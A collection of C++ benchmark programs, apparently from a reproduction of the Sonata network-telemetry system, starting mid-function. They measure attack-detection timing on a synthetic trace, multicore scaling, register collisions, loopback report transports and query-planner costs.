  std::printf("Figure 9: detecting the Zorro attack (victim %s, attack at t=%.0f s,\n",
              util::ipv4_to_string(workload.attack.victim).c_str(),
              workload.attack.start_sec);
  std::printf("shell commands at t=%.0f s; window W = %.0f s)\n\n",
              workload.attack.shell_at_sec, util::to_seconds(workload.window));
  std::printf("%s\n", plan.summary().c_str());

  runtime::Runtime rt(plan);
  std::vector<std::vector<std::string>> rows;
  bool victim_identified = false;
  bool attack_confirmed = false;
  for (const auto& ws : rt.run_trace(workload.trace)) {
    std::string event;
    for (const auto& r : ws.results) {
      for (const auto& t : r.outputs) {
        if (t.at(0).as_uint() == workload.attack.victim && !attack_confirmed) {
          attack_confirmed = true;
          event = "ATTACK CONFIRMED (keyword seen)";
        }
      }
    }
    // "Victim identified": a winner key covering the victim's address was
    // installed into the next refinement level's filter tables.
    if (!victim_identified) {
      if (const auto* keys = ws.winners.find(qs[0].id())) {
        for (const auto& w : *keys) {
          const auto prefix = static_cast<std::uint32_t>(w.at(0).as_uint());
          for (const int lvl : plan.queries[0].chain) {
            if (lvl < 32 && prefix == util::ipv4_prefix(workload.attack.victim, lvl)) {
              victim_identified = true;
            }
          }
        }
      }
      if (victim_identified && event.empty()) {
        event = "VICTIM IDENTIFIED (refinement zoomed in)";
      }
    }
    const double t0 = static_cast<double>(ws.window_index) * util::to_seconds(workload.window);
    char span[32];
    std::snprintf(span, sizeof span, "[%2.0f,%2.0f)", t0, t0 + util::to_seconds(workload.window));
    rows.push_back({span, bench::fmt_count(ws.packets), bench::fmt_count(ws.tuples_to_sp),
                    event});
  }
  bench::print_table({"t (s)", "switch packets", "tuples to SP", "event"}, rows);

  if (!attack_confirmed) {
    std::printf("\nFAILED: attack was not detected\n");
    return 1;
  }
  std::printf("\nAttack confirmed. Total control-plane update latency: %.1f ms\n",
              rt.data_plane().stats().control_update_millis);
  return 0;
}
