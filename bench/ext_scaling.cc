// Extension benchmark + CI scaling gate: packets/sec-per-core (DESIGN.md
// "Datapath vectorization & memory locality").
//
// The datapath bench answers "how fast is one configuration"; this one
// answers "does adding cores keep paying". One MaxDP plan on an 8-switch
// fleet replays the same trace at worker counts {0 (serial), 1, 2, 4, 8},
// batch=256, workers pinned round-robin over the affinity mask. For every
// configuration we report aggregate pps and pps-per-core (aggregate divided
// by the worker count, serial counted as one core), plus bit-identity
// against the serial per-packet reference.
//
// Gates (exit nonzero on failure):
//   * identity — every configuration's windows bit-identical to serial
//     (always checked, any machine).
//   * efficiency — threaded pps-per-core must stay above
//     kMinParallelEfficiency of the serial pps. Skipped when the affinity
//     mask grants fewer than 4 cores: on a 1-2 core box the workers time-
//     slice one socket and per-core numbers measure the scheduler, not us.
//   * scaling — aggregate pps at the highest thread count must beat serial
//     aggregate pps. Same < 4 core skip.
//
// `--smoke` shrinks the trace for sanitizer jobs (identity still gated).
// Results land in BENCH_scaling.json with the honest hardware inventory.
#include <chrono>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <string>
#include <vector>

#include "common.h"
#include "runtime/fleet.h"
#include "runtime/stream_processor.h"
#include "util/cpu.h"

using namespace sonata;

namespace {

constexpr double kMinParallelEfficiency = 0.25;  // pps-per-core floor vs serial

bool identical_windows(const std::vector<runtime::WindowStats>& a,
                       const std::vector<runtime::WindowStats>& b) {
  if (a.size() != b.size()) return false;
  for (std::size_t w = 0; w < a.size(); ++w) {
    if (a[w].packets != b[w].packets || a[w].tuples_to_sp != b[w].tuples_to_sp ||
        a[w].raw_mirror_packets != b[w].raw_mirror_packets ||
        a[w].overflow_records != b[w].overflow_records ||
        a[w].results.size() != b[w].results.size()) {
      return false;
    }
    for (std::size_t r = 0; r < a[w].results.size(); ++r) {
      if (a[w].results[r].qid != b[w].results[r].qid ||
          !(a[w].results[r].outputs == b[w].results[r].outputs)) {
        return false;
      }
    }
    if (!(a[w].winners == b[w].winners)) return false;
  }
  return true;
}

}  // namespace

int main(int argc, char** argv) {
  const auto opts = bench::parse_options(argc, argv);
  bool smoke = false;
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--smoke") == 0) smoke = true;
  }
  constexpr std::size_t kSwitches = 8;
  constexpr std::size_t kBatch = 256;
  const int reps = smoke ? 2 : 3;
  const std::size_t cores = util::available_cores();

  trace::BackgroundConfig bg;
  bg.duration_sec = smoke ? 4.0 : 15.0;
  bg.flows_per_sec = 600.0 * opts.scale;
  const auto trace = trace::TraceBuilder(opts.seed).background(bg).build();

  queries::Thresholds th;
  std::vector<query::Query> qs;
  qs.push_back(queries::make_newly_opened_tcp(th, util::seconds(30)));

  planner::PlannerConfig cfg;
  cfg.mode = planner::PlanMode::kMaxDP;
  cfg.window = util::seconds(30);
  const auto plan = planner::Planner(cfg).plan(qs, trace);

  std::printf("Scaling: %zu-switch fleet, %zu packets, batch %zu, best of %d, "
              "%zu allowed cores, simd %s%s\n\n",
              kSwitches, trace.size(), kBatch, reps, cores, util::simd_level(),
              smoke ? " (smoke)" : "");

  runtime::Fleet reference_fleet(plan, kSwitches, 0, 1);
  const auto reference = reference_fleet.run_trace(trace);

  struct Config {
    std::size_t threads;      // 0 = serial driver-only path
    double seconds = 1e30;    // best of reps
    double pps = 0.0;
    double pps_per_core = 0.0;
    std::size_t pinned = 0;
    bool identical = false;
  };
  std::vector<Config> configs;
  for (const std::size_t t : {0u, 1u, 2u, 4u, 8u}) configs.push_back({.threads = t});

  for (int rep = 0; rep < reps; ++rep) {
    for (Config& c : configs) {
      runtime::Fleet fleet(plan, kSwitches, c.threads, kBatch, {}, /*pin_workers=*/true);
      const auto t0 = std::chrono::steady_clock::now();
      const auto windows = fleet.run_trace(trace);
      const auto t1 = std::chrono::steady_clock::now();
      c.seconds = std::min(c.seconds, std::chrono::duration<double>(t1 - t0).count());
      if (rep == 0) {
        c.identical = identical_windows(reference, windows);
        c.pinned = fleet.pinned_workers();
      }
    }
  }
  for (Config& c : configs) {
    c.pps = static_cast<double>(trace.size()) / c.seconds;
    c.pps_per_core = c.pps / static_cast<double>(c.threads == 0 ? 1 : c.threads);
  }
  const double serial_pps = configs.front().pps;

  std::vector<std::vector<std::string>> rows;
  for (const Config& c : configs) {
    char pps_s[32], per_core_s[32], eff_s[32];
    std::snprintf(pps_s, sizeof pps_s, "%.2fM", c.pps / 1e6);
    std::snprintf(per_core_s, sizeof per_core_s, "%.2fM", c.pps_per_core / 1e6);
    std::snprintf(eff_s, sizeof eff_s, "%.2f", c.pps_per_core / serial_pps);
    rows.push_back({c.threads == 0 ? "serial" : std::to_string(c.threads),
                    std::to_string(c.pinned), pps_s, per_core_s, eff_s,
                    c.identical ? "yes" : "NO"});
  }
  bench::print_table({"workers", "pinned", "pps", "pps/core", "efficiency", "bit-identical"},
                     rows);

  bool identity_ok = true;
  for (const Config& c : configs) identity_ok = identity_ok && c.identical;
  const bool multicore = cores >= 4;
  bool efficiency_ok = true;
  bool scaling_ok = true;
  if (multicore) {
    for (const Config& c : configs) {
      if (c.threads > 0 && c.threads <= cores &&
          c.pps_per_core < kMinParallelEfficiency * serial_pps) {
        efficiency_ok = false;
      }
    }
    scaling_ok = configs.back().pps > serial_pps;
  } else {
    std::printf("\n(< 4 allowed cores: efficiency and scaling gates skipped — workers "
                "time-slice, per-core numbers would measure the scheduler)\n");
  }
  const bool pass = identity_ok && efficiency_ok && scaling_ok;

  std::ofstream json("BENCH_scaling.json");
  json << "{\n  \"bench\": \"scaling\",\n";
  json << "  \"smoke\": " << (smoke ? "true" : "false") << ",\n";
  json << "  \"switches\": " << kSwitches << ",\n";
  json << "  \"packets\": " << trace.size() << ",\n";
  json << "  \"batch\": " << kBatch << ",\n  \"reps\": " << reps << ",\n";
  json << "  \"hardware\": " << bench::hardware_json(configs.back().pinned) << ",\n";
  json << "  \"configs\": [\n";
  for (std::size_t i = 0; i < configs.size(); ++i) {
    const Config& c = configs[i];
    char buf[256];
    std::snprintf(buf, sizeof buf,
                  "    {\"threads\": %zu, \"pinned\": %zu, \"pps\": %.0f, "
                  "\"pps_per_core\": %.0f, \"efficiency\": %.3f, \"identical\": %s}%s\n",
                  c.threads, c.pinned, c.pps, c.pps_per_core, c.pps_per_core / serial_pps,
                  c.identical ? "true" : "false", i + 1 == configs.size() ? "" : ",");
    json << buf;
  }
  json << "  ],\n";
  json << "  \"gate\": {\"identical\": " << (identity_ok ? "true" : "false")
       << ", \"multicore_gates_ran\": " << (multicore ? "true" : "false")
       << ", \"efficiency_ok\": " << (efficiency_ok ? "true" : "false")
       << ", \"scaling_ok\": " << (scaling_ok ? "true" : "false")
       << ", \"pass\": " << (pass ? "true" : "false") << "}\n}\n";
  std::printf("\nWrote BENCH_scaling.json\n");

  if (!identity_ok) {
    std::fprintf(stderr, "GATE FAILURE: windows not bit-identical to serial reference\n");
    return 1;
  }
  if (!pass) {
    std::fprintf(stderr, "GATE FAILURE: efficiency=%d scaling=%d\n", efficiency_ok, scaling_ok);
    return 2;
  }
  std::printf("PASS\n");
  return 0;
}
