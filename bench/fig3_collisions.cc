// Figure 3 reproduction: register collision rate vs. the number of unique
// incoming keys (k) relative to the configured register size (n), for
// collision chains of depth d = 1..4.
//
// Shape to match the paper: the collision rate rises as k/n grows and falls
// as d grows; at k/n = 1, d = 1 roughly a third of keys fail to find a slot.
#include <cstdio>

#include "common.h"
#include "pisa/register.h"
#include "util/rng.h"

using namespace sonata;

int main(int argc, char** argv) {
  const auto opts = bench::parse_options(argc, argv);
  constexpr std::size_t kEntries = 4096;  // n, per register

  std::printf("Figure 3: collision rate vs k/n for d registers (n=%zu)\n\n", kEntries);

  std::vector<std::vector<std::string>> rows;
  for (double ratio = 0.1; ratio <= 2.001; ratio += 0.1) {
    std::vector<std::string> row{[&] {
      char buf[16];
      std::snprintf(buf, sizeof buf, "%.1f", ratio);
      return std::string(buf);
    }()};
    for (int d = 1; d <= 4; ++d) {
      pisa::RegisterChainConfig cfg;
      cfg.entries_per_register = kEntries;
      cfg.depth = d;
      pisa::RegisterChain chain(cfg);
      util::Rng rng(opts.seed + static_cast<std::uint64_t>(d));
      const auto keys = static_cast<std::size_t>(ratio * static_cast<double>(kEntries));
      for (std::size_t i = 0; i < keys; ++i) {
        query::Tuple key{{query::Value{rng()}}};
        chain.update(key, 1, query::ReduceFn::kSum);
      }
      const double rate =
          keys == 0 ? 0.0
                    : static_cast<double>(chain.overflow_count()) / static_cast<double>(keys);
      char buf[16];
      std::snprintf(buf, sizeof buf, "%.3f", rate);
      row.push_back(buf);
    }
    rows.push_back(std::move(row));
  }
  bench::print_table({"k/n", "d=1", "d=2", "d=3", "d=4"}, rows);
  return 0;
}
