// Extension benchmark: the multi-process report transport (DESIGN.md
// "Deployment modes & report transport").
//
// A 4-shard fleet split across 2 switch nodes plus a collector runs the
// full window-barrier protocol over each transport (shm ring, TCP, UDP on
// loopback — threads in one process, real sockets/rings in between), and
// the identical plan/trace runs through the in-process Fleet as the
// baseline. Reported per transport: wall-clock, shipped reports/sec
// (records + raw-mirror tuples + polled partial entries), wire frames and
// bytes, the per-window barrier overhead vs the in-process close, and
// whether the distributed windows are bit-identical to the Fleet's.
//
// A raw shm-ring section measures the byte path alone (cross-thread
// framed write/parse throughput) to separate ring cost from protocol cost.
//
// Gates (run by CI):
//   - shm and TCP must be bit-identical to the in-process run
//   - UDP must complete; on a clean loopback it is bit-identical, and if
//     the kernel dropped datagrams the loss must be exactly accounted
//     (lost frames > 0 and the affected windows marked partial)
//   - --smoke shrinks the trace; the gates still run (timing is not gated)
//
// Results land in BENCH_net.json for CI artifacts and EXPERIMENTS.md.
#include <chrono>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <string>
#include <thread>
#include <unistd.h>
#include <vector>

#include "common.h"
#include "net/transport/frame.h"
#include "net/transport/shm_ring.h"
#include "net/transport/transport.h"
#include "runtime/distributed.h"
#include "runtime/fleet.h"

using namespace sonata;
namespace nt = net::transport;

namespace {

bool identical_windows(const std::vector<runtime::WindowStats>& a,
                       const std::vector<runtime::WindowStats>& b) {
  if (a.size() != b.size()) return false;
  for (std::size_t w = 0; w < a.size(); ++w) {
    if (a[w].packets != b[w].packets || a[w].tuples_to_sp != b[w].tuples_to_sp ||
        a[w].raw_mirror_packets != b[w].raw_mirror_packets ||
        a[w].overflow_records != b[w].overflow_records ||
        a[w].contribution_mask != b[w].contribution_mask ||
        a[w].results.size() != b[w].results.size()) {
      return false;
    }
    for (std::size_t r = 0; r < a[w].results.size(); ++r) {
      if (a[w].results[r].qid != b[w].results[r].qid ||
          !(a[w].results[r].outputs == b[w].results[r].outputs)) {
        return false;
      }
    }
    if (!(a[w].winners == b[w].winners)) return false;
  }
  return true;
}

struct TransportResult {
  std::string name;
  double seconds = 0.0;
  double reports_per_sec = 0.0;
  std::uint64_t reports = 0;
  std::uint64_t tx_frames = 0;
  std::uint64_t tx_bytes = 0;
  std::uint64_t lost = 0;
  double barrier_ms_per_window = 0.0;  // added wall-clock vs in-process
  bool identical = false;
  bool completed = false;
};

}  // namespace

int main(int argc, char** argv) {
  const auto opts = bench::parse_options(argc, argv);
  bool smoke = false;
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--smoke") == 0) smoke = true;
  }
  constexpr std::size_t kSwitches = 4;
  constexpr std::uint16_t kNodes = 2;

  trace::BackgroundConfig bg;
  bg.duration_sec = smoke ? 4.0 : 12.0;
  bg.flows_per_sec = 600.0 * opts.scale;
  const auto trace = trace::TraceBuilder(opts.seed).background(bg).build();

  queries::Thresholds th;
  std::vector<query::Query> qs;
  qs.push_back(queries::make_newly_opened_tcp(th, util::seconds(3)));
  qs.push_back(queries::make_superspreader(th, util::seconds(3)));

  planner::PlannerConfig cfg;
  cfg.mode = planner::PlanMode::kSonata;
  cfg.window = util::seconds(3);
  const auto plan = planner::Planner(cfg).plan(qs, trace);

  std::printf("Report transport: %zu shards on %u switch-node threads + collector, "
              "%zu packets%s\n\n",
              kSwitches, static_cast<unsigned>(kNodes), trace.size(), smoke ? " (smoke)" : "");

  // In-process baseline: the same plan on the same shard count.
  runtime::Fleet fleet(plan, kSwitches);
  const auto t0 = std::chrono::steady_clock::now();
  const auto ref = fleet.run_trace(trace);
  const auto t1 = std::chrono::steady_clock::now();
  const double fleet_seconds = std::chrono::duration<double>(t1 - t0).count();
  std::printf("in-process baseline: %.3f s over %zu windows\n", fleet_seconds, ref.size());

  const std::string pid = std::to_string(::getpid());
  const std::vector<std::pair<std::string, std::string>> transports = {
      {"shm", "shm:/tmp/sonata_bench_ring." + pid},
      {"tcp", "tcp:127.0.0.1:" + std::to_string(21000 + ::getpid() % 10000)},
      {"udp", "udp:127.0.0.1:" + std::to_string(31000 + ::getpid() % 10000)},
  };

  std::vector<TransportResult> results;
  for (const auto& [name, spec_str] : transports) {
    TransportResult r;
    r.name = name;
    const auto spec = nt::parse_endpoint(spec_str);
    if (!spec) {
      std::fprintf(stderr, "bad spec %s: %s\n", spec_str.c_str(), spec.error().c_str());
      return 1;
    }
    runtime::DistributedConfig dcfg;
    dcfg.switches = kSwitches;
    dcfg.nodes = kNodes;
    auto ep = nt::make_collector_endpoint(*spec, kNodes);
    if (!ep) {
      std::fprintf(stderr, "%s endpoint: %s\n", name.c_str(), ep.error().c_str());
      return 1;
    }
    runtime::Collector collector(plan, dcfg, std::move(*ep));
    if (const std::string err = collector.listen(); !err.empty()) {
      std::fprintf(stderr, "%s listen: %s\n", name.c_str(), err.c_str());
      return 1;
    }

    std::vector<runtime::WindowStats> got;
    std::string collector_err;
    std::thread collector_thread([&] {
      collector_err =
          collector.run([&](const runtime::WindowStats& ws) { got.push_back(ws); });
    });

    std::vector<runtime::SwitchNode::Stats> node_stats(kNodes);
    std::vector<nt::TransportCounters> node_tc(kNodes);
    std::vector<std::string> node_err(kNodes);
    const auto d0 = std::chrono::steady_clock::now();
    std::vector<std::thread> node_threads;
    for (std::uint16_t n = 0; n < kNodes; ++n) {
      node_threads.emplace_back([&, n] {
        runtime::DistributedConfig ncfg = dcfg;
        ncfg.node_index = n;
        auto transport = nt::make_switch_transport(*spec, n);
        if (!transport) {
          node_err[n] = transport.error();
          return;
        }
        runtime::SwitchNode node(plan, ncfg, std::move(*transport));
        node_err[n] = node.run(trace);
        node_stats[n] = node.stats();
        node_tc[n] = node.transport_counters();
      });
    }
    for (auto& t : node_threads) t.join();
    collector_thread.join();
    const auto d1 = std::chrono::steady_clock::now();

    r.completed = collector_err.empty();
    for (const auto& e : node_err) r.completed = r.completed && e.empty();
    if (!collector_err.empty()) std::fprintf(stderr, "%s collector: %s\n", name.c_str(), collector_err.c_str());
    for (std::uint16_t n = 0; n < kNodes; ++n) {
      if (!node_err[n].empty()) {
        std::fprintf(stderr, "%s node %u: %s\n", name.c_str(), n, node_err[n].c_str());
      }
    }
    r.seconds = std::chrono::duration<double>(d1 - d0).count();
    for (const auto& st : node_stats) {
      r.reports += st.records_sent + st.raw_sent + st.partial_entries_sent;
    }
    for (const auto& tc : node_tc) {
      r.tx_frames += tc.tx_frames;
      r.tx_bytes += tc.tx_bytes;
    }
    r.reports_per_sec = r.seconds > 0 ? static_cast<double>(r.reports) / r.seconds : 0.0;
    r.lost = collector.stats().lost_frames;
    r.identical = r.completed && identical_windows(ref, got);
    r.barrier_ms_per_window =
        ref.empty() ? 0.0 : 1e3 * (r.seconds - fleet_seconds) / static_cast<double>(ref.size());
    results.push_back(r);

    if (name == "shm") {
      for (std::uint16_t n = 0; n < kNodes; ++n) {
        const std::string prefix = spec->target + ".n" + std::to_string(n);
        ::unlink((prefix + ".up").c_str());
        ::unlink((prefix + ".down").c_str());
      }
    }
  }

  // Raw ring byte path: framed cross-thread throughput, no protocol.
  const std::string ring_file = "/tmp/sonata_bench_rawring." + pid;
  double ring_mbps = 0.0;
  {
    auto ring = nt::ShmRing::create(ring_file, 1u << 20);
    if (ring) {
      const std::size_t frames = smoke ? 20000 : 200000;
      nt::Frame f;
      f.type = nt::FrameType::kRecords;
      f.payload.assign(512, std::byte{0x42});
      std::vector<std::byte> wire;
      nt::encode_stream(f, wire);
      const auto r0 = std::chrono::steady_clock::now();
      std::thread producer([&] {
        for (std::size_t i = 0; i < frames; ++i) {
          while (!ring->write(wire)) std::this_thread::yield();
        }
      });
      nt::StreamParser parser;
      std::size_t got_frames = 0;
      std::vector<std::byte> buf(64 * 1024);
      while (got_frames < frames) {
        const std::size_t n = ring->read(buf.data(), buf.size());
        if (n == 0) {
          std::this_thread::yield();
          continue;
        }
        parser.feed(std::span<const std::byte>(buf.data(), n));
        while (parser.next()) ++got_frames;
      }
      producer.join();
      const auto r1 = std::chrono::steady_clock::now();
      const double secs = std::chrono::duration<double>(r1 - r0).count();
      ring_mbps = static_cast<double>(frames * wire.size()) / secs / 1e6;
      std::printf("raw shm ring: %.0f MB/s framed cross-thread (%zu frames of %zu B)\n\n",
                  ring_mbps, frames, wire.size());
    }
    ::unlink(ring_file.c_str());
  }

  std::vector<std::vector<std::string>> rows;
  for (const auto& r : results) {
    char sec_s[32], rps_s[32], lat_s[32];
    std::snprintf(sec_s, sizeof sec_s, "%.3f", r.seconds);
    std::snprintf(rps_s, sizeof rps_s, "%.0f", r.reports_per_sec);
    std::snprintf(lat_s, sizeof lat_s, "%+.2f", r.barrier_ms_per_window);
    rows.push_back({r.name, sec_s, rps_s, std::to_string(r.tx_frames),
                    std::to_string(r.tx_bytes), lat_s, std::to_string(r.lost),
                    r.identical ? "yes" : "NO"});
  }
  bench::print_table({"transport", "seconds", "reports/sec", "frames", "bytes",
                      "barrier ms/win", "lost", "bit-identical"},
                     rows);

  std::ofstream json("BENCH_net.json");
  json << "{\n  \"bench\": \"net_transport\",\n";
  json << "  \"switches\": " << kSwitches << ",\n";
  json << "  \"nodes\": " << kNodes << ",\n";
  json << "  \"packets\": " << trace.size() << ",\n";
  json << "  \"windows\": " << ref.size() << ",\n";
  json << "  \"smoke\": " << (smoke ? "true" : "false") << ",\n";
  json << "  \"fleet_seconds\": " << fleet_seconds << ",\n";
  json << "  \"raw_shm_ring_mbps\": " << ring_mbps << ",\n";
  json << "  \"hardware\": " << bench::hardware_json() << ",\n";
  json << "  \"transports\": [\n";
  for (std::size_t i = 0; i < results.size(); ++i) {
    const auto& r = results[i];
    char buf[384];
    std::snprintf(buf, sizeof buf,
                  "    {\"transport\": \"%s\", \"seconds\": %.4f, "
                  "\"reports_per_sec\": %.0f, \"reports\": %llu, \"tx_frames\": %llu, "
                  "\"tx_bytes\": %llu, \"barrier_ms_per_window\": %.3f, "
                  "\"lost_frames\": %llu, \"identical\": %s, \"completed\": %s}%s\n",
                  r.name.c_str(), r.seconds, r.reports_per_sec,
                  static_cast<unsigned long long>(r.reports),
                  static_cast<unsigned long long>(r.tx_frames),
                  static_cast<unsigned long long>(r.tx_bytes), r.barrier_ms_per_window,
                  static_cast<unsigned long long>(r.lost), r.identical ? "true" : "false",
                  r.completed ? "true" : "false", i + 1 == results.size() ? "" : ",");
    json << buf;
  }
  json << "  ]\n}\n";
  std::printf("\nWrote BENCH_net.json\n");

  // Gates (see the header comment).
  bool ok = true;
  for (const auto& r : results) {
    if (!r.completed) {
      std::fprintf(stderr, "GATE: %s run did not complete\n", r.name.c_str());
      ok = false;
    } else if (r.name == "udp") {
      if (!r.identical && r.lost == 0) {
        std::fprintf(stderr, "GATE: udp diverged without any accounted loss\n");
        ok = false;
      }
    } else if (!r.identical) {
      std::fprintf(stderr, "GATE: %s windows are not bit-identical to in-process\n",
                   r.name.c_str());
      ok = false;
    }
  }
  if (ok) std::printf("All transport gates passed.\n");
  return ok ? 0 : 1;
}
