// Table 3 reproduction: the telemetry query catalogue.
//
// The paper compares lines of Sonata code against the hand-written P4 +
// Spark implementations each task would otherwise need. Our proxy for that
// comparison: DSL statements (one per dataflow operator + the source),
// versus the number of match-action tables the data-plane compiler emits
// and the stream-side operators that remain — i.e. what you would otherwise
// write by hand on each target.
#include <cstdio>

#include "common.h"
#include "pisa/compile.h"
#include "queries/catalog.h"

using namespace sonata;

int main(int argc, char** argv) {
  (void)bench::parse_options(argc, argv);
  queries::Thresholds th;
  auto catalog = queries::full_catalog(th, util::seconds(3));

  std::printf("Table 3: implemented Sonata queries\n");
  std::printf("(DSL stmts ~ paper's 'Sonata LoC'; MA tables + SP ops ~ the per-target code\n");
  std::printf(" a user would write without Sonata)\n\n");

  std::vector<std::vector<std::string>> rows;
  for (const auto& q : catalog) {
    std::size_t dsl_statements = q.operator_count() + q.sources().size();
    std::size_t tables = 0;
    std::size_t sp_ops = 0;
    for (const auto* src : q.sources()) {
      const std::size_t prefix = pisa::max_switch_prefix(*src);
      const auto res = pisa::build_resources(*src, prefix, {}, q.id(), 0, 32);
      tables += res.tables.size();
      sp_ops += src->ops.size() - prefix;
    }
    // Join + post-join operators always execute at the stream processor.
    sp_ops += q.operator_count();
    for (const auto* src : q.sources()) sp_ops -= src->ops.size();
    const bool join = q.sources().size() > 1;
    rows.push_back({std::to_string(q.id()), q.name(), std::to_string(dsl_statements),
                    std::to_string(tables), std::to_string(sp_ops), join ? "yes" : "no"});
  }
  bench::print_table({"#", "query", "DSL stmts", "MA tables", "SP ops", "join"}, rows);

  std::printf("\nFull query texts:\n\n");
  for (const auto& q : catalog) {
    std::printf("%s\n", q.to_string().c_str());
  }
  return 0;
}
