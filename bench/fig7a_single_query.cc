// Figure 7a reproduction: tuples received by the stream processor per
// query, running one query at a time, under the five plans of Table 4.
//
// Shape to match the paper: All-SP is flat at the trace size; Filter-DP
// only helps queries with selective static filters (SSH brute force);
// Max-DP collapses load for switch-friendly queries; Sonata matches or
// beats everything; the join-based queries (SYN flood, incomplete flows)
// are the hardest for every plan.
#include <cstdio>

#include "common.h"

using namespace sonata;

int main(int argc, char** argv) {
  const auto opts = bench::parse_options(argc, argv);
  const auto workload = bench::make_eval_workload(opts);
  const auto windows = planner::materialize_windows(workload.trace, workload.window);
  const auto queries = queries::evaluation_queries(workload.thresholds, workload.window);

  std::printf("Figure 7a: single-query load on the stream processor\n");
  std::printf("(total tuples over %zu packets / %.0f s; measured by running the full\n",
              workload.trace.size(), util::to_seconds(workload.trace.back().ts));
  std::printf(" runtime, not just the planner estimate)\n\n");

  std::vector<std::vector<std::string>> measured_rows;
  std::vector<std::vector<std::string>> estimate_rows;
  for (const auto& q : queries) {
    std::vector<query::Query> single;
    single.push_back(q);
    planner::EstimatorPool pool(single, windows, {8, 16, 24}, {1, 2});

    std::vector<std::string> mrow{q.name()};
    std::vector<std::string> erow{q.name()};
    for (const auto mode : bench::all_modes()) {
      planner::PlannerConfig cfg;
      cfg.mode = mode;
      cfg.window = workload.window;
      const auto plan = planner::Planner(cfg).plan_windows(single, windows, &pool);
      const auto m = bench::measure_runtime(plan, workload.trace);
      mrow.push_back(bench::fmt_count(m.tuples_to_sp));
      erow.push_back(bench::fmt_count(plan.est_total_tuples));
    }
    measured_rows.push_back(std::move(mrow));
    estimate_rows.push_back(std::move(erow));
  }
  std::printf("Measured (runtime, total tuples incl. collision overflow):\n\n");
  bench::print_table({"query", "All-SP", "Filter-DP", "Max-DP", "Fix-REF", "Sonata"},
                     measured_rows);
  std::printf("\nPlanner estimate (tuples/window — the paper's trace-driven metric):\n\n");
  bench::print_table({"query", "All-SP", "Filter-DP", "Max-DP", "Fix-REF", "Sonata"},
                     estimate_rows);
  return 0;
}
