// Figure 5 reproduction: the N and B cost values for executing Query 1
// (newly opened TCP connections) at refinement level r_j after level r_i.
//
//   N1 = packet tuples to the SP if only the stateless prefix (filters +
//        maps) runs on the switch;
//   N2 = packet tuples to the SP if the reduce (+ folded threshold filter)
//        also runs on the switch (one report per qualifying key);
//   B  = register state for the reduce (stored key + 32-bit aggregate per
//        distinct key observed in training).
//
// Shape to match the paper: B shrinks dramatically at coarse levels, N2 is
// orders of magnitude below N1, and refining (r_i -> r_j) with a winner
// filter slashes both N1 and B versus running r_j from scratch.
#include <cstdio>

#include "common.h"
#include "pisa/compile.h"
#include "planner/estimator.h"

using namespace sonata;

int main(int argc, char** argv) {
  const auto opts = bench::parse_options(argc, argv);
  const auto workload = bench::make_eval_workload(opts);
  const auto windows = planner::materialize_windows(workload.trace, workload.window);

  auto q = queries::make_newly_opened_tcp(workload.thresholds, workload.window);
  planner::CostEstimator est(q, windows, {8, 16, 24}, {});
  if (!est.refinable()) {
    std::printf("unexpected: query 1 not refinable\n");
    return 1;
  }

  std::printf("Figure 5: refinement transition costs for Query 1 (W = 3 s,\n");
  std::printf("%zu training windows, %zu packets)\n\n", windows.size(), workload.trace.size());

  const int key_value_bits = 32 + 32;  // stored key + aggregate
  std::vector<std::vector<std::string>> rows;
  const auto levels = est.levels();  // {8, 16, 24, 32}
  auto add_row = [&](int prev, int level) {
    const auto& cost = est.transition(0, prev, level);
    // Stateless prefix = everything before the reduce's tables; the reduce
    // is the second-to-last n_after entry, the folded filter the last.
    const std::size_t n1_idx = cost.n_after.size() >= 3 ? cost.n_after.size() - 3 : 0;
    const std::uint64_t n1 = cost.n_after[n1_idx];
    const std::uint64_t n2 = cost.n_after.back();
    std::uint64_t keys = 0;
    for (const auto& [op, k] : cost.stateful_keys) keys = k;
    const std::uint64_t bits = keys * key_value_bits;
    const std::string from = prev == planner::kNoPrevLevel ? "*" : std::to_string(prev);
    rows.push_back({from + " -> " + std::to_string(level), bench::fmt_bits(bits),
                    bench::fmt_count(n1), bench::fmt_count(n2)});
  };

  for (std::size_t j = 0; j < levels.size(); ++j) {
    add_row(planner::kNoPrevLevel, levels[j]);
  }
  for (std::size_t i = 0; i < levels.size(); ++i) {
    for (std::size_t j = i + 1; j < levels.size(); ++j) {
      add_row(levels[i], levels[j]);
    }
  }
  bench::print_table({"r_i -> r_j", "B (state)", "N1 (stateless)", "N2 (reduce on switch)"},
                     rows);

  std::printf("\nExample plans (cf. paper Section 4.2):\n");
  const auto& direct = est.transition(0, planner::kNoPrevLevel, 32);
  const auto& head8 = est.transition(0, planner::kNoPrevLevel, 8);
  const auto& tail32 = est.transition(0, 8, 32);
  std::printf("  no refinement, reduce on switch:  N = %s per window\n",
              bench::fmt_count(direct.n_after.back()).c_str());
  std::printf("  * -> 8 -> 32 (both on switch):    N = %s + %s per window pair\n",
              bench::fmt_count(head8.n_after.back()).c_str(),
              bench::fmt_count(tail32.n_after.back()).c_str());
  return 0;
}
