// Extension benchmark: network-wide telemetry scale-out (DESIGN.md §6).
//
// Part 1 — capability: one Sonata plan deployed on 1..8 switches that share
// a border link's traffic (ECMP-hashed). Reported per fleet size: tuples
// reaching the shared stream processor, the busiest switch's packet share,
// and whether the aggregate-only victim (below threshold on every single
// switch) is detected — the capability a single-switch deployment cannot
// provide.
//
// Part 2 — parallel execution: the same 8-switch fleet processed by 1..8
// worker threads (thread-per-switch SPSC ingest, window-barrier merge).
// Reported per thread count: wall-clock packets/sec and whether every
// window's results and tuple counts are identical to the serial
// (threads=0) run — the determinism contract of Fleet's merge order.
// Speedup is bounded by the hardware's core count.
#include <chrono>
#include <cstdio>
#include <thread>

#include "common.h"
#include "runtime/fleet.h"
#include "util/ip.h"

using namespace sonata;

namespace {

bool identical_windows(const std::vector<runtime::WindowStats>& a,
                       const std::vector<runtime::WindowStats>& b) {
  if (a.size() != b.size()) return false;
  for (std::size_t w = 0; w < a.size(); ++w) {
    if (a[w].packets != b[w].packets || a[w].tuples_to_sp != b[w].tuples_to_sp ||
        a[w].overflow_records != b[w].overflow_records ||
        a[w].results.size() != b[w].results.size()) {
      return false;
    }
    for (std::size_t r = 0; r < a[w].results.size(); ++r) {
      if (a[w].results[r].qid != b[w].results[r].qid ||
          !(a[w].results[r].outputs == b[w].results[r].outputs)) {
        return false;
      }
    }
  }
  return true;
}

}  // namespace

int main(int argc, char** argv) {
  const auto opts = bench::parse_options(argc, argv);

